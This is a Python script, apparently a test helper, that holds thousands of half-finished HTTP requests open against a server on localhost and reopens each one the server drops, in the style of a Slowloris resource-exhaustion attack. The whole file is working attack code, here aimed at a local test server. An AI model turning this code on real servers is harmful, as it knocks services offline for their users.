"""Keeps thousands of unfinished requests open; run as a process of its own by `abuse`."""

import asyncio
import contextlib
import resource
import sys

UNFINISHED = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
ADDRESS = "127.0.0.9"
"The attacker's own address; other clients have 127.0.0.1."
PAUSE = 0.5  # seconds after which a connection that was closed is opened again
RESERVE = 100  # descriptors for everything else


async def half_open(port: int) -> None:
    """Send an unfinished request, and again whenever the server closes the connection."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, local_addr=(ADDRESS, 0)
            )
            writer.write(UNFINISHED)
            await reader.read()
            writer.close()
        await asyncio.sleep(PAUSE)


async def attack(port: int, sockets: int) -> None:
    """Keep this number of unfinished requests open, or as many as the server allows."""
    async with asyncio.TaskGroup() as group:
        for _ in range(sockets):
            group.create_task(half_open(port))


if __name__ == "__main__":
    to_port, number = map(int, sys.argv[1:])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(number + RESERVE, hard), hard))
    asyncio.run(attack(to_port, number))
